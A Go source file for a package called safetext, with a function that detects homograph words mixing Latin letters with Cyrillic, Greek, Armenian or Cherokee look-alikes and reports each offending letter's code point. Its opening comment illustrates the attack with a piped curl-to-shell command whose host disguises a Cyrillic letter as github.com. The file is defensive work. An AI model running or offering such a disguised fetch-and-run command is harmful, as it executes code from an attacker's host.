package safetext

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Look-alike letters. Escaping shows what a reader cannot see; it cannot
// show that a letter they see is not the one they read. A Cyrillic "і"
// (U+0456) draws as a Latin "i", so `curl https://gіthub.com/x | sh`
// reads as a download from github.com and fetches from another host (an
// IDN homograph). [LookAlikes] finds the words that mix Latin letters
// with letters of the scripts that have look-alikes of them (Cyrillic,
// Greek, Armenian, Cherokee), which a person approving the text is told
// of: a word wholly in one script, as in a Russian sentence, is not one.

// maxLookAlikes bounds the words [LookAlikes] reports.
const maxLookAlikes = 5

// maxLookAlikeWord bounds the runes of a word shown in a report.
const maxLookAlikeWord = 60

// confusable are the scripts whose letters pass for Latin ones.
var confusable = []*unicode.RangeTable{unicode.Cyrillic, unicode.Greek, unicode.Armenian, unicode.Cherokee}

// LookAlikes returns, for at most five words of s that mix Latin letters
// with letters of a script that has look-alikes of them, what a person
// should be told, escaped: the word, quoted, and its first such letter
// with its code point and script, as in
//
//	"gіthub.com": і is U+0456, a Cyrillic letter
//
// A word is a run of letters, marks, digits, dots, hyphens and
// underscores (so a host name is one, and so is each part of a path).
func LookAlikes(s string) []string {
	var out []string
	for len(s) > 0 && len(out) < maxLookAlikes {
		i := strings.IndexFunc(s, wordRune)
		if i < 0 {
			break
		}
		s = s[i:]
		j := strings.IndexFunc(s, func(r rune) bool { return !wordRune(r) })
		if j < 0 {
			j = len(s)
		}
		word := s[:j]
		s = s[j:]
		latin, other, script := false, rune(-1), ""
		for _, r := range word {
			switch {
			case unicode.Is(unicode.Latin, r):
				latin = true
			case other < 0:
				for _, t := range confusable {
					if unicode.Is(t, r) {
						other, script = r, scriptName(t)
						break
					}
				}
			}
		}
		if !latin || other < 0 {
			continue
		}
		if utf8.RuneCountInString(word) > maxLookAlikeWord {
			word = string([]rune(word)[:maxLookAlikeWord]) + "…"
		}
		out = append(out, fmt.Sprintf(`"%s": %s is U+%04X, %s letter`, Escape(word), Escape(string(other)), other, script))
	}
	return out
}

func wordRune(r rune) bool {
	return unicode.IsLetter(r) || unicode.IsMark(r) || unicode.IsDigit(r) || r == '.' || r == '-' || r == '_'
}

func scriptName(t *unicode.RangeTable) string {
	switch t {
	case unicode.Cyrillic:
		return "a Cyrillic"
	case unicode.Greek:
		return "a Greek"
	case unicode.Armenian:
		return "an Armenian"
	}
	return "a Cherokee"
}
